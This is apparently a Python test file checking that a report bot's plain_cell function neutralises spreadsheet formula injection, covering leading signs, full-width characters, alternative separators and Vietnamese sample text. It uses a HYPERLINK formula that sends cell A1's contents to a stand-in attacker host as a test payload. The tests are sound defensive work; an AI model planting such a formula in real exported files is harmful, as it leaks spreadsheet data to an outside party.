import csv
import io
import re

import pytest
from hypothesis import given
from hypothesis import strategies as st

from bot.report.cells import plain_cell

HYPERLINK = '=HYPERLINK("http://evil.example/"&A1,"bấm vào đây")'


@pytest.mark.parametrize("start", ["", " ", "\t", "\r", "\n", "\u00a0"])
@pytest.mark.parametrize("sign", ["=", "+", "-", "@", "＝", "＋", "－", "＠"])
def test_no_cell_begins_a_formula(sign: str, start: str):
    assert plain_cell(f"{start}{sign}1+1").startswith("'")


@pytest.mark.parametrize("separator", [";", "\t", "\n"])
def test_a_program_that_parts_cells_by_other_signs_runs_none_either(separator: str):
    assert f"{separator}=" not in plain_cell(f"hỏi{separator}{HYPERLINK}")
    assert f"{separator} =" not in plain_cell(f"hỏi{separator} {HYPERLINK}")


@given(st.text(st.sampled_from("=+-@;,\"'\t\r\n ab＝")))
def test_any_text_comes_back_from_the_table_without_a_formula(text: str):
    out = io.StringIO()
    csv.writer(out).writerow([plain_cell(text), plain_cell(HYPERLINK)])
    first, second = next(csv.reader(io.StringIO(out.getvalue(), newline="")))
    assert not re.match(r"\s*[=+@-]", first)
    assert second == f"'{HYPERLINK}"


@pytest.mark.parametrize("text", ["Quyết định 3482/QĐ-UBND", "a-b, c - d", "phí 1+1; 2 đồng", ""])
def test_other_text_stays(text: str):
    assert plain_cell(text) == text
